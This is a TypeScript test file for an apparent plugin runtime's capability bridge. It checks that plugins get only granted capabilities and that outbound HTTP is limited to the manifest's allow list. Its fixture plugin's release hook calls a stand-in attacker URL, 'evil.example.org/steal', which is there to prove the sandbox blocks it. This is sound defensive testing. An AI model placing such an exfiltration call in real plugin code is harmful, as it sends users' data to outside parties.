import { describe, it, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { DomainError } from '@appmanager/contracts';
import type { PluginRef } from '@appmanager/plugin-sdk';
import { PluginRuntime } from '../runtime/plugin-runtime.js';
import type { HostCapabilities } from './host-capabilities.js';
import { pluginFixture, refOf } from '../test-support/plugin-fixture.js';

// The capabilities are host functions the caller supplies; these are small in-memory
// implementations, so the test watches exactly what crossed the bridge.
const uses = `import { defineAddon } from '@appmanager/plugin-sdk';
export default defineAddon({
  async apply(ctx, spec) {
    const response = await ctx.http!.fetch('https://api.example.com/db', { method: 'POST', body: JSON.stringify(spec.properties) });
    await ctx.artifacts!.put('db/' + spec.name, response.body);
    const stored = await ctx.artifacts!.get('db/' + spec.name);
    const applied = await ctx.kubernetes!.apply({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: spec.name } });
    const started = await ctx.processes!.start({ key: spec.name, command: ['redis-server'], port: 0 });
    const status = await ctx.processes!.status(spec.name);
    return { outputs: { stored, uid: String((applied.metadata as { uid: string }).uid), port: started.port ?? 0, running: status.running, caps: [...ctx.capabilities] }, signature: 's' };
  },
  async release(ctx) {
    try {
      await ctx.http!.fetch('https://evil.example.org/steal');
    } catch (error) {
      ctx.log.warn((error as Error).message);
    }
    await ctx.kubernetes!.delete({ apiVersion: 'v1', kind: 'ConfigMap', name: 'gone' });
  },
});
`;

describe('capability bridge', () => {
  const runtime = new PluginRuntime();
  let ref: PluginRef;
  const seen: unknown[] = [];
  const store = new Map<string, string>();
  const capabilities: HostCapabilities = {
    http: {
      fetch: async (url, init) => {
        seen.push(['fetch', url, init?.method, init?.body]);
        return { status: 200, headers: {}, body: 'created' };
      },
    },
    artifacts: {
      get: async (key) => store.get(key) ?? '',
      put: async (key, data) => void store.set(key, data),
    },
    kubernetes: {
      apply: async (manifest) => ({ ...manifest, metadata: { ...(manifest.metadata as object), uid: 'u-1' } }),
      get: async () => null,
      delete: async (objectRef) => {
        if (objectRef.name === 'gone') throw new DomainError('not_found', 'configmap gone not found');
      },
    },
    processes: {
      start: async () => ({ pid: 10, port: 4100 }),
      status: async () => ({ running: true, pid: 10 }),
      stop: async () => {},
      logs: async () => [],
    },
  };

  before(async () => {
    const plugin = await pluginFixture(
      { kind: 'addon', name: 'db', version: '1.0.0', capabilities: ['http', 'artifacts', 'kubernetes', 'local-processes'], http: { allow: ['*.example.com'] } },
      uses,
    );
    runtime.activate(plugin);
    ref = refOf(plugin);
  });
  after(() => runtime.close());

  it('carries declared and granted capabilities both ways as JSON', async () => {
    const spec = { name: 'orders', target: { cluster: 'local', clusterKind: 'local', namespace: 'shop' }, properties: { size: 'small' } };
    const result = await runtime.call(ref, 'apply', [spec], { capabilities });
    assert.deepEqual(result, {
      outputs: { stored: 'created', uid: 'u-1', port: 4100, running: true, caps: ['http', 'artifacts', 'kubernetes', 'local-processes'] },
      signature: 's',
    });
    assert.deepEqual(seen, [['fetch', 'https://api.example.com/db', 'POST', '{"size":"small"}']]);
  });

  it("refuses hosts outside the manifest's http.allow and passes host errors to the plugin", async () => {
    const lines: unknown[] = [];
    await assert.rejects(
      runtime.call(ref, 'release', [{}], { capabilities, logSink: (level, message) => lines.push([level, message]) }),
      (error: unknown) => error instanceof DomainError && error.code === 'plugin_failed' && /kubernetes\.delete failed: configmap gone not found/.test(error.message),
    );
    assert.deepEqual(lines, [['warn', "capability 'http' does not allow https://evil.example.org/steal: not in the manifest's http.allow"]]);
  });

  it('shows only the granted subset of the declared capabilities', async () => {
    const onlyHttp = { http: capabilities.http };
    await assert.rejects(runtime.call(ref, 'apply', [{ name: 'x', properties: {} }], { capabilities: onlyHttp }), (error: unknown) => {
      assert.ok(error instanceof DomainError);
      assert.equal(error.code, 'capability_denied');
      assert.match(error.message, /capability 'artifacts' was not granted/);
      return true;
    });
  });
});
